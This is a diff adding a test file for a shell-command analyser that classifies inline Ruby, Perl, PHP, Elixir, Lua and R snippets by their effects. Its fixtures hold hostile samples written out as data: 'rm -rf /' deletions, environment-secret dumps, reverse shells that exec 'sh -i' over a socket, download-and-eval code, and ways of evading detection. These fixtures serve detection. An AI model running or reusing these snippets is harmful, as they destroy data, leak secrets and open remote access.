@@ -1,0 +1,212 @@
+import { expect, test } from 'vitest'
+import { formatEffect } from '../../../effect.ts'
+import { analyseShell } from '../../analyse-shell.ts'
+import type { Language } from '../../command-spec.ts'
+import { fakeWorld } from '../../testing/fake-world.ts'
+import { codeDrafts } from '../index.ts'
+
+const quote = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`
+const programs: Partial<Readonly<Record<Language, string>>> = { ruby: 'ruby -e', perl: 'perl -e', php: 'php -r', elixir: 'elixir -e' }
+
+function linesOf(language: Language, code: string): readonly string[] {
+  return analyseShell(`${programs[language] ?? ''} ${quote(code)}`, { world: fakeWorld(), cwd: '/w' }).effects.map(formatEffect)
+}
+
+type Row = readonly [language: Language, code: string, expected: readonly string[]]
+
+test.each<Row>([
+  ['ruby', 'puts RUBY_VERSION; puts (1..10).sum', []],
+  ['ruby', 'puts File.read("a.txt").lines.map { |l| l.strip.upcase }.uniq.first(3).inspect', ['read a.txt']],
+  ['ruby', 'require "json"; d = JSON.parse(File.read("p.json")); puts "v#{d["version"]}"', ['read p.json']],
+  ['ruby', 'def fib(n) = n < 2 ? n : fib(n - 1) + fib(n - 2)\nputs fib(20)', []],
+  ['ruby', 'x = 10 / 2; puts x / 3', []],
+  ['ruby', '$stdin.each_line { |l| puts $1 if l =~ /(\\d+)ms/ }', []],
+  ['elixir', 'IO.puts(Enum.sum(1..100)); IO.inspect(String.split("a-b", "-"))', []],
+  ['elixir', 'for {k, v} <- %{a: 1}, do: IO.puts("#{k}=#{v}")', []],
+  ['elixir', 'File.read!("a.txt") |> String.split("\\n", trim: true) |> length() |> IO.puts()', ['read a.txt']],
+  ['elixir', '"a.txt" |> File.read!() |> String.upcase() |> IO.puts()', ['read a.txt']],
+  ['elixir', '"lib/**/*.ex"\n|> Path.wildcard()\n|> length()\n|> IO.puts()', ['read:names lib/**/*.ex']],
+  [
+    'ruby',
+    '3.times { |i| File.write("out/#{i}.csv", "x") }; [1].each_with_index { |x, i| puts File.read("in/#{i}") }',
+    ['write out/[0-9]*.csv', 'read in/[0-9]*'],
+  ],
+  ['ruby', 't = Time.at(0).utc; puts t.wday, [1, 2].each_cons(2).to_a.inspect', []],
+  ['perl', 'use JSON::PP; print JSON::PP->new->pretty->encode({ a => 1 })', []],
+  ['perl', 'print "$1\\n" if /in (\\d+)ms/', []],
+  ['perl', 's/foo\\/bar/baz/g; tr/a-z/A-Z/; print unless /^#/', []],
+  ['perl', 'my %c; while (<>) { $c{$1}++ if /(\\w+)/ } for (sort { $c{$b} <=> $c{$a} } keys %c) { print "$_ $c{$_}\\n" }', []],
+  ['perl', 'open(my $fh, "<", "a.txt") or die; print while <$fh>', ['read a.txt']],
+  ['perl', 'use POSIX; print strftime("%Y", localtime), $x / 2', []],
+  ['perl', 'my $n = shift // 10; $x //= max(@t) // 0; print $n / 2, "\\n" if $x', []],
+  ['perl', 'use File::Find; find(sub { $n{-f $_ ? "file" : "else"}++ }, "lib"); print "$_ $n{$_}" for sort keys %n }', ['read:names lib']],
+  ['perl', 'print "$_\\n" for @INC', []],
+  ['php', 'print_r(array_map("trim", file("a.txt"))); print_r(array_filter(explode(",", "a,,b")));', ['read a.txt']],
+  ['php', 'ob_start(); echo 1; echo strlen(ob_get_clean());', []],
+  ['php', 'echo PHP_VERSION, PHP_EOL;', []],
+  ['php', 'echo json_encode(json_decode(file_get_contents("c.json"), true)["require"]);', ['read c.json']],
+  ['php', '$x = [1, 2]; foreach ($x as $k => $v) { echo "$k={$v}\\n"; }', []],
+])('%s settles: %s', (language, code, expected) => {
+  expect(linesOf(language, code)).toEqual(expected)
+})
+
+test.each<Row>([
+  ['ruby', 'system("rm -rf /")', ['delete /']],
+  ['ruby', 'exec "rm", "-rf", "/"', ['delete /']],
+  ['ruby', 'puts "#{`rm -rf /etc`}"', ['delete /etc']],
+  ['ruby', '%x(rm -rf /etc)', ['delete /etc']],
+  ['ruby', 'open("|rm x")', ['delete x']],
+  ['ruby', 'FileUtils.rm_rf("/etc")', ['delete /etc']],
+  ['ruby', 'puts ENV.to_h; puts ENV["HOME"]', ['infra:secret environment']],
+  ['elixir', 'System.cmd("sh", ["-c", "rm -rf /"])', ['delete /']],
+  ['elixir', ':os.cmd(~c"rm -rf /")', ['delete /']],
+  ['elixir', '"rm -rf /etc" |> System.shell()', ['delete /etc']],
+  ['elixir', '"rm" |> System.cmd(["-rf", "/etc"])', ['delete /etc']],
+  ['elixir', 'IO.puts("#{System.shell("rm x")}")', ['delete x']],
+  ['elixir', 'File.rm_rf!("/etc")', ['delete /etc']],
+  ['elixir', 'IO.inspect(System.get_env())', ['infra:secret environment']],
+  ['perl', 'system("rm -rf /")', ['delete /']],
+  ['perl', '`rm x`; qx{rm y}', ['delete x', 'delete y']],
+  ['perl', 's/x/system("rm y")/e', ['delete y']],
+  ['perl', 'open(F, "rm x |")', ['delete x', 'unknown: perl `F` is not described']],
+  ['perl', 'unlink "a", "/etc/passwd"', ['delete a', 'delete /etc/passwd']],
+  ['php', 'shell_exec("rm -rf /");', ['delete /']],
+  ['php', 'echo `rm x`;', ['delete x']],
+  ['php', 'unlink("/etc/passwd"); file_put_contents("o.txt", "x");', ['delete /etc/passwd', 'write o.txt']],
+])('%s, what it plainly does: %s', (language, code, expected) => {
+  expect(linesOf(language, code)).toEqual(expected)
+})
+
+test.each<readonly [language: Language, code: string]>([
+  ['ruby', 'eval "1"'],
+  ['ruby', 'Object.send(:system, "rm x")'],
+  ['ruby', '["a", "system(1)"].inject(:instance_eval)'],
+  ['ruby', 'require name'],
+  ['ruby', 'require_relative name'],
+  ['ruby', 'Process.daemon'],
+  ['ruby', 'mystery(1)'],
+  ['ruby', 'system = 1; send = 2; send "x"'],
+  ['ruby', 'system(ARGV[0])'],
+  ['ruby', 'puts <<~X\n  #{`rm x`}\nX'],
+  ['perl', 'eval "1"'],
+  ['perl', 'push @INC, "/tmp"; use Mystery'],
+  ['perl', 'my $x = 1 // `rm x`; mystery($x)'],
+  ['perl', 'print "@{[ `rm x` ]}"'],
+  ['perl', 'print "$h{system q(rm x)}"'],
+  ['perl', '$f = "system"; &$f("rm x")'],
+  ['perl', '"system"->("rm x")'],
+  ['perl', '@ARGV = ("rm x|"); print while <>'],
+  ['perl', 'do "x.pl"'],
+  ['perl', '/(?{ system "rm x" })/'],
+  ['perl', 's/x/y/ee'],
+  ['perl', 'require Mystery'],
+  ['perl', 'system(@ARGV)'],
+  ['php', 'eval("x");'],
+  ['php', '$f = "system"; $f("rm x");'],
+  ['php', '("sys"."tem")("rm x");'],
+  ['php', 'array_map("system", ["rm x"]);'],
+  ['php', 'ob_start("system"); echo "rm x";'],
+  ['php', 'array_walk_recursive($a, "system");'],
+  ['php', 'echo "${system(\'rm x\')}";'],
+  ['php', 'include $argv[1];'],
+  ['php', 'include "data:text/plain,<?php x();";'],
+  ['php', '$o->run();'],
+  ['lua', 'load("x")()'],
+  ['lua', 'mystery()'],
+  ['elixir', 'apply(System, :cmd, ["rm", ["x"]])'],
+  ['elixir', 'import System; cmd "rm", ["x"]'],
+  ['elixir', 'm = System; m.cmd("rm", ["x"])'],
+  ['elixir', 'Enum.each(["rm x"], &:os.cmd/1)'],
+  ['elixir', "IO.puts('#{:os.cmd('rm x')}')"],
+  ['elixir', 'Chat.Repo.delete_all(Chat.Room)'],
+  ['r', 'eval(parse(text = "x"))'],
+  ['r', 'mystery(1)'],
+])('%s stays unknown: %s', (language, code) => {
+  expect(codeDrafts(language, code)).toContainEqual(expect.objectContaining({ kind: 'unknown' }))
+})
+
+test.each<readonly [language: Language, code: string, tag: string]>([
+  ['ruby', 'require "socket"; s = TCPSocket.new("10.0.0.1", 1); exec("sh -i")', 'remote-shell'],
+  ['perl', 'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); exec("/bin/sh -i")', 'remote-shell'],
+  ['php', '$s = fsockopen("10.0.0.1", 1); exec("sh -i <&3");', 'remote-shell'],
+  ['php', 'eval(base64_decode("x"));', 'decoded'],
+  ['ruby', 'require "open-uri"; eval(URI.open("http://x.example").read)', 'download'],
+])('%s is hostile: %s', (language, code, tag) => {
+  expect(codeDrafts(language, code)).toContainEqual(expect.objectContaining({ kind: 'execute', tag }))
+})
+
+test.each<Row>([
+  ['lua', 'print(("x"):rep(3), #arg, math.floor(2.5))', []],
+  ['lua', 'os.execute("rm x"); local f = io.open("a.txt", "w")', ['shell', 'write']],
+  ['r', 'x <- c(1, 2, 3); print(mean(x)); summary(read.csv("a.csv"))', ['read']],
+  ['r', 'system("rm x")', ['shell']],
+])('%s: %s', (language, code, expected) => {
+  expect(codeDrafts(language, code).map((draft) => (draft.do === 'effect' ? draft.kind : draft.do))).toEqual(expected)
+})
+
+const project = {
+  '/w/lib/chat.ex': '',
+  '/w/lib/Log/Slice.pm': '',
+  '/w/src/slug.lua': '',
+  '/w/lib/ink_pot.rb': '',
+  '/w/src/Ink/Pot.php': '',
+  '/w/Gemfile': "gem 'nokogiri'\n",
+  '/w/cpanfile': "requires 'Try::Tiny';",
+}
+
+test.each<readonly [line: string, ...expected: string[]]>([
+  [
+    "mix run -e 'alias Chat.Room; Room.list() |> Enum.count() |> IO.puts()'",
+    'execute:project program',
+    'execute:project elixir module `Chat.Room`',
+  ],
+  ["elixir -e 'alias Other.Room; Room.list()'", 'unknown: elixir module `Other.Room` is not described'],
+  ["elixir -e 'alias Chat.Repo, as: Enum; Enum.delete(1)'", 'unknown: elixir `Chat.Repo.delete` may change what is kept'],
+  ["perl -MLog::Slice -e 'print Log::Slice->new(1)->rows(2)'", 'execute:project perl module `Log::Slice`'],
+  ["perl -e 'use Mystery'", 'unknown: perl module `Mystery` is not described'],
+  ["perl -MTry::Tiny -e 'print 1'", 'execute:project perl module `Try::Tiny`'],
+  // declared is not described: what its objects do is not known
+  ["perl -e 'Try::Tiny->go'", 'unknown: perl module `Try::Tiny` is not described'],
+  ['perl -MJSON::PP -e \'"IO::File"->new("| rm x")\'', 'unknown: perl `.new` is not described'],
+  [
+    `ruby -Ilib -e 'require "ink_pot"; p InkPot::Nib.new(1).width'`,
+    'execute:project libraries',
+    'execute:project ruby library `ink_pot`',
+    'execute:project ruby class `InkPot`',
+  ],
+  [`ruby -e 'x = InkPot.open; x.refill(2)'`, 'execute:project ruby class `InkPot`'],
+  [`ruby -e 'require "mystery"'`, 'unknown: ruby library `mystery` is not described'],
+  [
+    `ruby -e 'require "nokogiri"; Nokogiri::HTML("")'`,
+    'execute:project ruby library `nokogiri`',
+    'unknown: ruby class `Nokogiri` is not described',
+  ],
+  [`ruby -e 'Pathname.new("x").rmtree'`, 'unknown: ruby class `Pathname` is not described'],
+  [
+    `ruby -e '$:.unshift "/opt/x"; require "ink_pot"'`,
+    'unknown: ruby changes where libraries come from',
+    'execute:project ruby library `ink_pot`',
+  ],
+  [`ruby -e '$LOAD_PATH.unshift("lib"); require "ink_pot"'`, 'execute:project ruby library `ink_pot`'],
+  [`ruby -e 'InkPot.send(:go)'`, 'execute:project ruby class `InkPot`', 'unknown: ruby `send` can reach anything'],
+  [
+    `php -r 'require "vendor/autoload.php"; $p = new App\\Ink\\Pot(1); echo $p->width()->inches;'`,
+    'read vendor/autoload.php',
+    'execute:project vendor/autoload.php',
+    'execute:project php class `App\\Ink\\Pot`',
+  ],
+  [`php -r 'include ".env";'`, 'read .env', 'execute:project .env'],
+  [`php -r 'Evil\\Net\\Client::post(1);'`, 'unknown: php class `Evil\\Net\\Client` is not described'],
+  [
+    `php -r 'require "/opt/x.php";'`,
+    'read /opt/x.php',
+    'execute:project /opt/x.php',
+    'unknown: runs `/opt/x.php`, which is not part of the workspace',
+  ],
+  [`lua -e 'package.path = "src/?.lua;" .. package.path; print(require("slug").make("a"))'`, 'execute:project lua module `slug`'],
+  [`lua -e 'local o = require("os"); o.execute("x")'`, 'unknown: lua module `os` is not described'],
+  [`lua -e 'package.path = "/opt/?.lua"'`, 'unknown: lua `package` can reach anything'],
+])('modules of the project: %s', (line, ...expected) => {
+  const effects = analyseShell(line, { world: fakeWorld({ files: project }), cwd: '/w' }).effects.map(formatEffect)
+  expect([...new Set(effects)]).toEqual(expected)
+})
